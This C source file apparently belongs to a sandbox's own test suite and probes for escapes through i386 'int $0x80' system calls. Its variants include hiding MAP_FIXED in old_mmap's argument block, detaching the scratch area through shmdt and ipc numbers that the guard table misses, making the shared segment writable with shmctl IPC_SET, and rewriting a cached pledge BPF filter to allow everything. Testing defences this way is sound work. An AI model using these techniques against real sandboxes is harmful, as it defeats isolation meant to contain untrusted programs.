// scratch_i386 DIR: swap the path scratch area (docs/SECURITY.md, "Path-argument races") for
// memory the program owns through i386 calls (`int $0x80`), where the policy allows the i386
// ABI. The guard reads mmap's flags from the 4th register, but i386 mmap (nr 90, old_mmap)
// takes ONE argument: a pointer to {addr, len, prot, flags, fd, offset} in memory. With that
// register 0, MAP_FIXED over the area is not seen. After the swap an allowed open is pointed at
// the program's own page, holding the denied path. DIR holds "allowed" and "forbiddn"
// ("secret"), which the policy denies.
//   old-mmap-fixed: i386 mmap(struct {kAddr, size, RW, MAP_FIXED|MAP_PRIVATE|MAP_ANONYMOUS});
//   mmap2-fixed: i386 mmap2 (registers) with MAP_FIXED: must be refused (control);
//   munmap, shmdt, ipc-shmdt: i386 munmap (91), shmdt (398) and ipc(SHMDT) (117, call 22,
//     address in the 5th argument) of the area, then an anonymous MAP_FIXED-less mmap2 at its
//     address: the detach must be refused. (libseccomp 2.5.4 resolves the NAME "shmdt" on
//     i386 to a pseudo number, -222, for the ipc multiplexer, while the kernel also has the
//     direct call 398: a guard table built by name misses 398, 397 shmat and 396 shmctl.)
//   shmat-remap: i386 shmat (397) of a writable segment of our own over the area, SHM_REMAP.
//   shmctl-writable: i386 shmctl (396) IPC_SET of the scratch segment itself (its id is the
//     inode in /proc/self/maps) to mode 0600 (the tracee is the creator's user), then i386 shmat
//     (397) of it read-write elsewhere: every tracee's pinned paths and the pledge filters'
//     BPF programs become writable by the program.
//   pledge-program: (seccomp mode) with that mapping, rewrite the cached BPF program of a
//     "stdio" pledge to allow everything; the next process that pledges "stdio" gets it and
//     socket() runs.
#include "attack.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/wait.h>

#define SCRATCH_ADDR 0x7d000000UL
#define SCRATCH_SIZE (4096UL * 8192UL + (2UL << 20))

static char g_allowed[4096], g_forbidden[4096];

static long int80(long nr, long a, long b, long c, long d, long e, long f) {
  long ret;
  register long rsi __asm__("rsi") = d;
  register long rdi __asm__("rdi") = e;
  register long rbp __asm__("rbp") = f;
  __asm__ volatile("int $0x80"
                   : "=a"(ret)
                   : "a"(nr), "b"(a), "c"(b), "d"(c), "r"(rsi), "r"(rdi), "r"(rbp)
                   : "memory", "r8", "r9", "r10", "r11");
  return ret;
}

static void open_allowed(char *out, size_t size) {
  int fd = open(g_allowed, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    snprintf(out, size, "errno=%s", errname(errno));
    return;
  }
  ssize_t n = read(fd, out, size - 1);
  close(fd);
  out[n > 0 ? n : 0] = 0;
  char *nl = strchr(out, '\n');
  if (nl) *nl = 0;
}


// The scratch segment attached read-write at 0x20000000 through i386 shmctl(IPC_SET) and shmat:
// its id, or -1 (said).
static long writable_segment(const char *name) {
  long id = -1;
  char maps[8192] = {0};
  int mfd = open("/proc/self/maps", O_RDONLY);
  if (mfd >= 0) {
    (void)!read(mfd, maps, sizeof maps - 1);
    close(mfd);
  }
  for (char *l = maps; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL) {
    unsigned long start;
    long ino;
    if (sscanf(l, "%lx-%*x %*s %*s %*s %ld", &start, &ino) == 2 && start == SCRATCH_ADDR) id = ino;
  }
  if (id < 0) {
    setup_error(name, "no scratch segment in /proc/self/maps");
    return -1;
  }
  unsigned int *blk = mmap((void *)0x10000000UL, 4096, PROT_READ | PROT_WRITE,
                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
  if (blk == MAP_FAILED) {
    setup_error(name, "mmap of the argument block: %s", errname(errno));
    return -1;
  }
  // struct compat_shmid64_ds: ipc64_perm {key, uid, gid, cuid, cgid, mode(u16)...}
  blk[1] = getuid();
  blk[2] = getgid();
  ((unsigned short *)blk)[10] = 0600;
  long c = int80(396, id, IPC_SET /* the direct call always takes the IPC_64 layout */, (long)blk, 0, 0, 0);
  if (c != 0) {
    ok(name, "i386 shmctl(IPC_SET) of the segment: %s", c < 0 && c > -4096 ? errname((int)-c) : "?");
    return -1;
  }
  long w = int80(397, id, 0x20000000, 0, 0, 0, 0);
  if (w != 0x20000000) {
    ok(name, "mode changed, but the writable attach failed: %s", w < 0 && w > -4096 ? errname((int)-w) : "?");
    return -1;
  }
  return id;
}

// A pledge's BPF program is written once in the segment's program region and reused for every
// later identical pledge: child A pledges "stdio", we rewrite that program to allow everything,
// child B pledges "stdio" and gets our program (its Seccomp_filters count does go up by one).
// Seccomp mode only (pure ptrace mode has no pledge filter).
static void pledge_program(const char *name) {
  pid_t a = fork();
  if (a == 0) _exit(syscall(10000, "stdio", NULL) == 0 ? 0 : 3);
  int st = 0;
  waitpid(a, &st, 0);
  if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) return setup_error(name, "child A's pledge failed");
  if (writable_segment(name) < 0) return;
  unsigned char *region = (unsigned char *)0x20000000UL + 4096UL * 8192UL;
  unsigned short len;
  memcpy(&len, region, sizeof len);
  if (len == 0) {
    ok(name, "no pledge program in the region (pure ptrace mode?): nothing to rewrite");
    return;
  }
  const unsigned char allow[8] = {0x06, 0, 0, 0, 0, 0, 0xff, 0x7f};  // BPF_RET|BPF_K, RET_ALLOW
  for (unsigned i = 0; i < len; i++) memcpy(region + 16 + 8 * i, allow, 8);
  pid_t b = fork();
  if (b == 0) {
    long r = syscall(10000, "stdio", NULL);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (r == 0 && fd >= 0)
      bypass(name, "after xpledge(\"stdio\") socket(AF_INET) returned %d: the rewritten program "
                   "was installed as the pledge filter", fd);
    else
      ok(name, "xpledge=%ld, socket: %s", r, fd >= 0 ? "ok" : errname(errno));
    _exit(finish());
  }
  waitpid(b, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 1) g_bypass = 1;
  else if (!WIFEXITED(st)) ok(name, "child B was killed (signal %d): the pledge held", WTERMSIG(st));
}

static void variant(const char *name) {
  char got[256];
  open_allowed(got, sizeof got);  // attaches the area
  if (strcmp(got, "allowed") != 0) return setup_error(name, "open(allowed) got '%s'", got);
  const long flags = MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS;
  long r;
  if (strcmp(name, "old-mmap-fixed") == 0) {
    // The argument block must be at a 32-bit address.
    unsigned int *blk = mmap((void *)0x10000000UL, 4096, PROT_READ | PROT_WRITE,
                             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (blk == MAP_FAILED) return setup_error(name, "mmap of the argument block: %s", errname(errno));
    unsigned int args[6] = {(unsigned)SCRATCH_ADDR, (unsigned)SCRATCH_SIZE, PROT_READ | PROT_WRITE,
                            (unsigned)flags, (unsigned)-1, 0};
    memcpy(blk, args, sizeof args);
    r = int80(90, (long)blk, 0, 0, 0, 0, 0);
  } else if (strcmp(name, "shmctl-writable") == 0) {
    long id = writable_segment(name);
    if (id < 0) return;
    bypass(name, "the scratch segment %ld is attached read-WRITE at 0x20000000 (mode changed by "
                 "i386 shmctl IPC_SET): pinned paths and pledge programs are the program's to change", id);
    return;
  } else if (strcmp(name, "pledge-program") == 0) {
    return pledge_program(name);
  } else if (strcmp(name, "shmat-remap") == 0) {
    int id = shmget(IPC_PRIVATE, SCRATCH_SIZE, IPC_CREAT | 0600);
    if (id < 0) return setup_error(name, "shmget: %s", errname(errno));
    r = int80(397, id, SCRATCH_ADDR, SHM_REMAP, 0, 0, 0);
    shmctl(id, IPC_RMID, NULL);
  } else if (strcmp(name, "mmap2-fixed") != 0) {
    long d = strcmp(name, "munmap") == 0   ? int80(91, SCRATCH_ADDR, SCRATCH_SIZE, 0, 0, 0, 0)
             : strcmp(name, "shmdt") == 0  ? int80(398, SCRATCH_ADDR, 0, 0, 0, 0, 0)
                                           : int80(117, 22, 0, 0, 0, SCRATCH_ADDR, 0);
    if (d != 0) {
      ok(name, "the detach failed: %s", d < 0 && d > -4096 ? errname((int)-d) : "?");
      return;
    }
    r = int80(192, SCRATCH_ADDR, SCRATCH_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  } else {
    r = int80(192, SCRATCH_ADDR, SCRATCH_SIZE, PROT_READ | PROT_WRITE, flags, -1, 0);
  }
  if ((unsigned long)r != SCRATCH_ADDR) {
    ok(name, "the swap failed: %s", r < 0 && r > -4096 ? errname((int)-r) : "another address");
    return;
  }
  for (size_t off = 0; off < SCRATCH_SIZE; off += 4096) strcpy((char *)SCRATCH_ADDR + off, g_forbidden);
  open_allowed(got, sizeof got);
  if (strcmp(got, "secret") == 0)
    bypass(name, "writable memory at the area, then open(allowed) read the denied file");
  else
    ok(name, "writable memory at the area, but open(allowed) got '%s'", got);
}

int main(int argc, char **argv) {
  static const char *all[] = {"old-mmap-fixed", "mmap2-fixed", "munmap", "shmdt", "ipc-shmdt", "shmat-remap", "shmctl-writable", "pledge-program", NULL};
  if (argc < 2) return 2;
  snprintf(g_allowed, sizeof g_allowed, "%s/allowed", argv[1]);
  snprintf(g_forbidden, sizeof g_forbidden, "%s/forbiddn", argv[1]);
  const char **names = argc > 2 ? (const char **)argv + 2 : all;
  return run_variants(names, variant);
}
